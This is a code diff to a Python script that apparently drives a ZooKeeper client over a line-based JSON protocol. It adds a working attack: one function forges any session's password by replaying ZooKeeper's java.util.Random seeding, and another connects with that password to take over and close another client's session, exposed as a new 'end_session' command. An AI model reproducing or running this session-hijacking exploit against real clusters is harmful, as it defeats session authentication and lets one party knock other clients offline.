@@ -5,6 +5,8 @@ Each line on standard input is {"do": name, ...}; each answer is one line, {"ok"
 
 import base64
 import json
+import socket
+import struct
 import sys
 import threading
 
@@ -71,7 +73,29 @@ def observe(path):
     threading.Thread(target=look_on, daemon=True).start()
 
 
+def password(session):
+    """What ZooKeeper's servers hold a session's password to be: java.util.Random of its id and a constant of theirs."""
+    seed = ((session ^ 0xB3415C00) ^ 0x5DEECE66D) & ((1 << 48) - 1)
+    words = []
+    for _ in range(4):
+        seed = (seed * 0x5DEECE66D + 0xB) & ((1 << 48) - 1)
+        words.append((seed >> 16) & 0xFFFFFFFF)
+    return b"".join(word.to_bytes(4, "little") for word in words)
+
+
+def end_session(session, address):
+    """Ends another client's session: takes it over and closes it in one breath, before its owner is back."""
+    host, port = address.split(":")
+    connect = struct.pack(">iqiqi", 0, 0, 10_000, int(session), 16) + password(int(session)) + b"\0"
+    close = struct.pack(">ii", 1, -11)
+    with socket.create_connection((host, int(port)), timeout=20) as thief:
+        thief.sendall(b"".join(struct.pack(">i", len(frame)) + frame for frame in (connect, close)))
+        while thief.recv(4096):
+            pass
+
+
 COMMANDS = {
+    "end_session": end_session,
     "start": lambda: client.start(timeout=20),
     "stop": lambda: client.stop(),
     "session": lambda: str(client.client_id[0]),
